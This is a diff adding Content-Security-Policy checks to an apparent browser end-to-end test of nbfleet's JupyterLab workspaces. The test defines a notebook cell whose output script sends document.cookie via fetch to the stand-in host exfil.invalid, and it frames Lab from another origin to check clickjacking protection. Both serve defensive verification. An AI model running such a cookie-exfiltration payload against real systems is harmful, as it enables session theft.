@@ -2,6 +2,9 @@
 in to the dashboard, creates a workspace, opens it in nbfleet's JupyterLab, runs a
 notebook, restarts and interrupts its kernel, suspends the workspace from the
 dashboard with the Lab tab still open, resumes, and carries on with its variables.
+All of it under the pages' Content-Security-Policy, which refuses nothing Lab does,
+lets a cell's output script run (Jupyter's trust model) but not reach another site,
+and keeps Lab out of another site's frames.
 
 Screenshots of each step go to ``test-artifacts/browser/`` (or
 ``$NBFLEET_E2E_SCREENSHOTS``), for a person to look at.
@@ -9,9 +12,12 @@ Screenshots of each step go to ``test-artifacts/browser/`` (or
 
 from __future__ import annotations
 
+import contextlib
+import http.server
 import os
 import re
 import shutil
+import threading
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -27,6 +33,21 @@ CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
 #: Debian's Chromium, not a downloaded one; the flags keep it off the network.
 FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
          "--disable-background-networking", "--disable-component-update", "--disable-sync"]
+#: Each refusal of the page's Content-Security-Policy, as a console line and in
+#: ``window.nbfleetViolations`` (an init script is not itself subject to the policy).
+REPORT_VIOLATIONS = """
+window.nbfleetViolations = [];
+document.addEventListener('securitypolicyviolation', (e) => {
+  const line = `CSP violation: ${e.effectiveDirective} ${e.blockedURI}`;
+  window.nbfleetViolations.push(line);
+  console.log(line);
+});
+"""
+#: A cell whose HTML output runs a script that reads the page and sends it away.
+EXFILTRATE = ("from IPython.display import HTML; display(HTML('<b id=\"probe\">not run</b>"
+              "<script>document.getElementById(\"probe\").textContent = \"inline script ran\";"
+              " fetch(\"https://exfil.invalid/?c=\" + document.cookie).catch(() => 0);"
+              "</script>'))")
 SHOTS = Path(os.environ.get("NBFLEET_E2E_SCREENSHOTS",
                             Path(__file__).resolve().parents[2] / "test-artifacts" / "browser"))
 
@@ -46,6 +67,29 @@ def browser() -> Iterator[object]:
         instance = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
         yield instance
         instance.close()
+
+
+@contextlib.contextmanager
+def serving(html: str) -> Iterator[str]:
+    """The URL of a page of another origin (this host, another port) showing ``html``."""
+    class Page(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html; charset=utf-8")
+            self.end_headers()
+            self.wfile.write(html.encode())
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}/"
+    finally:
+        server.shutdown()
+        server.server_close()
 
 
 class Cells:
@@ -86,6 +130,11 @@ def test_a_notebook_survives_suspend_with_the_lab_tab_open(shared_cluster: Clust
     dialogs: list[str] = []
     console = (shots / "console.log").open("w")
     context.on("console", lambda m: console.write(f"{m.type}: {m.text}\n"))
+    # Whatever the Content-Security-Policy refuses, on any page (Lab's own code too).
+    violations: list[str] = []
+    context.add_init_script(REPORT_VIOLATIONS)
+    context.on("console", lambda m: violations.append(m.text)
+               if m.text.startswith("CSP violation") else None)
 
     # Sign in.
     page = context.new_page()
@@ -119,6 +168,13 @@ def test_a_notebook_survives_suspend_with_the_lab_tab_open(shared_cluster: Clust
     cells.run("import os; print('kernel in', os.path.basename(os.getcwd()) or '/')")
     cells.output("kernel in")
     lab.screenshot(path=shots / "03-lab-first-cell.png")
+
+    # Jupyter's trust model holds under Lab's policy: the script in an output of the
+    # user's own cell runs. Sending what it reads to another site is refused.
+    cells.run(EXFILTRATE)
+    cells.output("inline script ran")
+    lab.wait_for_function("window.nbfleetViolations.some(v => v.includes('exfil.invalid'))",
+                          timeout=30_000)
 
     # Restart: no "the kernel appears to have died" from a restart that was asked for.
     lab.get_by_role("menuitem", name="Kernel").click()
@@ -174,6 +230,19 @@ def test_a_notebook_survives_suspend_with_the_lab_tab_open(shared_cluster: Clust
 
     assert not server_errors, server_errors
     assert not dialogs, dialogs
+    # Lab itself ran without a single refusal; the one seen was the cell's.
+    assert [v for v in violations if "exfil.invalid" not in v] == [], violations
+    assert any("connect-src" in v and "exfil.invalid" in v for v in violations), violations
+
+    # Another origin cannot frame Lab (clickjacking). One on the same host, another
+    # port: the same site, so the browser sends the session cookie into the frame
+    # and only Lab's own policy ('self', where the dashboard's is 'none') stops it.
+    framer = context.new_page()
+    with serving(f'<iframe src="{shared_cluster.url}/w/{workspace_id}/lab"></iframe>'
+                 ) as elsewhere, framer.expect_console_message(
+            lambda m: "frame-ancestors 'self'" in m.text, timeout=30_000):
+        framer.goto(elsewhere)
+    assert framer.frames[-1].url.startswith("chrome-error:")
     # The notebook saved in Lab is a workspace file.
     names = [f["path"] for f in owner.get(f"/v1/workspaces/{workspace_id}/files"
                                           ).json()["files"]]
